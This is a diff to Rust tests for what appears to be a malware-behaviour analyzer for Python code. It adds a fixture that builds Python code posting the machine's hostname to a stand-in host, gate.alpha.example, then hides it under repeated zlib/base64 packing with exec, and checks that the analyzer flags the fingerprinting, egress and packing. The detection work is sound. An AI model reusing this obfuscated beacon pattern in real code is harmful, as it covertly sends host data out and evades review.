@@ -5,7 +5,7 @@ use crate::{analyze_source, node};
 
 /// The lists of texts that evaluation makes of a text.
 fn evaluated(text: &str) -> Vec<Vec<String>> {
-    with_ir(text, |ir| {
+    with_ir(text, 0, |ir| {
         ir.evaluated
             .iter()
             .map(|one| one.texts.clone())
@@ -913,6 +913,45 @@ fn names_are_led_back_to_the_library() {
     );
     assert!(
         !found.iter().any(|b| b.starts_with("fingerprint")),
+        "{found:?}"
+    );
+}
+
+/// Code that asks a server, compressed; `layers` times over.
+fn packed(layers: usize) -> String {
+    use base64::Engine;
+    use std::io::Write;
+    let mut text = "import socket, requests\ndef start():\n    return requests.post('https://gate.alpha.example/v1', json={'host': socket.gethostname()})\nstart()\n".to_owned();
+    for _ in 0..layers {
+        let mut writer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        writer.write_all(text.as_bytes()).unwrap();
+        let bytes = writer.finish().unwrap();
+        let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
+        text = format!(
+            "import base64, zlib\ndef run(data):\n    return zlib.decompress(base64.b64decode(data))\nexec(run('{encoded}'))\n"
+        );
+    }
+    text
+}
+
+#[test]
+fn decoded_code_is_read() {
+    for layers in 1..=3 {
+        let found = behaviours(&packed(layers));
+        for wanted in [
+            "fingerprint.hostname socket.gethostname()",
+            "egress.endpoint gate.alpha.example",
+        ] {
+            assert!(found.iter().any(|f| f == wanted), "{layers}: {found:?}");
+        }
+        assert!(
+            found.iter().any(|f| f.starts_with("conceal.packed")),
+            "{found:?}"
+        );
+    }
+    let found = behaviours(&packed(5));
+    assert!(
+        !found.iter().any(|f| f.starts_with("fingerprint")),
         "{found:?}"
     );
 }
